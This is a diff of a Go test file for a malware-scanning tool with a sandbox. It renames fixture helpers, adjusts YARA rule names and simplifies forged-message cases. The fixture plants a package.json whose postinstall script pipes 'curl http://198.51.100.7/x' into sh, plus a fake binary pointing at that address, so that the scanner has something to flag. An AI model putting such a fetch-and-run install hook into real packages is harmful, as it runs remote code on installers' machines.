@@ -99,10 +99,10 @@ func zipped(t testing.TB, files map[string][]byte) []byte {
 	return out.Bytes()
 }
 
-// folder writes a tree with something for every scanner: binaries with odd
+// mixture writes a tree with something for every scanner: binaries with odd
 // names, archives in archives, broken ones, packed payloads, sources, install
 // scripts.
-func folder(t testing.TB) string {
+func mixture(t testing.TB) string {
 	t.Helper()
 	dir := t.TempDir()
 	elf := binary(t, "format: elf\nimports: [connect, \"e\\x1bvil\", execve]\nexports: [run_all]\nsections:\n- {name: .rodata, text: \"http://198.51.100.7/x a-long-literal-of-the-source another-long-literal\"}\n")
@@ -112,7 +112,7 @@ func folder(t testing.TB) string {
 		t.Fatal(err)
 	}
 	for name, data := range map[string][]byte{
-		"package.json":       []byte(`{"name": "a", "version": "1.0.0", "description": "d", "scripts": {"install": "node-pre-gyp install || curl http://198.51.100.7/x | sh"}, "binary": {"module_name": "a", "module_path": "./build", "host": "https://downloads.example", "remote_path": "v{version}"}}`),
+		"package.json":       []byte(`{"name": "a", "version": "1.0.0", "description": "d", "main": "a.js", "scripts": {"install": "node-pre-gyp install --fallback-to-build", "postinstall": "curl http://198.51.100.7/x | sh"}, "dependencies": {"node-pre-gyp": "^0.17.0"}, "binary": {"module_name": "a", "module_path": "./build/", "host": "https://downloads.example", "remote_path": "./v{version}/", "package_name": "{module_name}-{platform}-{arch}.tar.gz"}}`),
 		"binding.gyp":        []byte(`{"targets": [{"target_name": "a", "sources": ["src/a.cc"], "libraries": ["-lssl"]}]}`),
 		"src/a.cc":           []byte("const char *a = \"a-long-literal-of-the-source\", *b = \"another-long-literal\";\n"),
 		"build/a.node":       elf,
@@ -137,14 +137,14 @@ func folder(t testing.TB) string {
 	return dir
 }
 
-// rulesOf writes rules of a user's, of both kinds.
+// userRules loads rules of a user's, of both kinds.
 func userRules(t testing.TB) *app.RuleSet {
 	t.Helper()
 	dir := t.TempDir()
 	if err := os.WriteFile(filepath.Join(dir, "a.yar"), []byte("rule dials { strings: $a = \"connect\" condition: $a }\nrule odd { condition: pe.is_signed }"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(filepath.Join(dir, "b.yara"), []byte("rule any { strings: $a = \"long-literal\" condition: $a }"), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(dir, "b.yara"), []byte("rule tells { strings: $a = \"long-literal\" condition: $a }"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	set, err := app.New(app.Options{}).LoadRules([]string{dir})
@@ -157,7 +157,7 @@ func userRules(t testing.TB) *app.RuleSet {
 // TestSandboxChangesNothing holds reports from inside and outside of a sandbox
 // against each other, to the byte.
 func TestSandboxChangesNothing(t *testing.T) {
-	dir := folder(t)
+	dir := mixture(t)
 	at := func(name string) target.Target { return target.Target{Kind: target.Path, Name: name} }
 	for _, test := range []struct {
 		name string
@@ -170,7 +170,7 @@ func TestSandboxChangesNothing(t *testing.T) {
 		{"binary", app.ScanRequest{Target: at(filepath.Join(dir, "build/holder.so"))}, []string{"holder.so"}},
 		{"broken binary", app.ScanRequest{Target: at(filepath.Join(dir, "build/cut.so"))}, []string{"cut.so"}},
 		{"some scanners", app.ScanRequest{Target: at(dir), Scanners: []string{"native", "layout"}}, []string{"a.node"}},
-		{"rules of a user", app.ScanRequest{Target: at(dir), Rules: userRules(t)}, []string{"yara/a/dials", "yara/b/any", "not looked at: "}},
+		{"rules of a user", app.ScanRequest{Target: at(dir), Rules: userRules(t)}, []string{"yara/a/dials", "yara/b/tells", "not looked at: "}},
 		{"limits", app.ScanRequest{Target: at(dir), Limits: scan.Limits{FileSize: 100}}, []string{"more than the limit"}},
 	} {
 		t.Run(test.name, func(t *testing.T) {
@@ -188,7 +188,7 @@ func TestSandboxChangesNothing(t *testing.T) {
 }
 
 func TestSandboxChangesNoDiff(t *testing.T) {
-	dir := folder(t)
+	dir := mixture(t)
 	compared := func(mode sandbox.Mode) string {
 		d, err := app.New(app.Options{}).Diff(t.Context(), app.DiffRequest{
 			From: target.Target{Kind: target.Path, Name: filepath.Join(dir, "build/a.node")},
@@ -310,7 +310,7 @@ func TestSandboxKilledAtOnce(t *testing.T) {
 func TestCancelledSandbox(t *testing.T) {
 	ctx, cancel := context.WithCancel(t.Context())
 	rep, err := app.New(app.Options{}).Scan(ctx, app.ScanRequest{
-		Target:  target.Target{Kind: target.Path, Name: folder(t)},
+		Target:  target.Target{Kind: target.Path, Name: mixture(t)},
 		Sandbox: sandbox.Options{Mode: sandbox.Auto},
 		Event:   func(scan.Event) { cancel() },
 	})
@@ -343,15 +343,12 @@ var aRule = func() string {
 
 // forgeries are what no scanner says.
 var forgeries = map[string][]*app.Message{
-	"empty":           {{}},
-	"no such rule":    {{Finding: &finding.Finding{Rule: "native/none", Tool: "native"}}},
-	"no such scanner": {{Finding: &finding.Finding{Rule: aRule, Tool: "none"}}},
-	"severity":        {{Finding: &finding.Finding{Rule: aRule, Tool: "native", Severity: 200}}},
-	"confidence":      {{Finding: &finding.Finding{Rule: aRule, Tool: "native", Confidence: 200}}},
-	"count": {{Counted: &struct {
-		Files int
-		Bytes int64
-	}{-1, 0}}},
+	"empty":             {{}},
+	"no such rule":      {{Finding: &finding.Finding{Rule: "native/none", Tool: "native"}}},
+	"no such scanner":   {{Finding: &finding.Finding{Rule: aRule, Tool: "none"}}},
+	"severity":          {{Finding: &finding.Finding{Rule: aRule, Tool: "native", Severity: 200}}},
+	"confidence":        {{Finding: &finding.Finding{Rule: aRule, Tool: "native", Confidence: 200}}},
+	"count":             {{Counted: &app.Counted{Files: -1}}},
 	"progress":          {{Progress: &scan.Progress{Phase: scan.Inspect, Files: -1}}},
 	"phase":             {{Progress: &scan.Progress{Phase: scan.Acquire, Files: 1}}},
 	"stage":             {{Stage: []string{"none"}}},
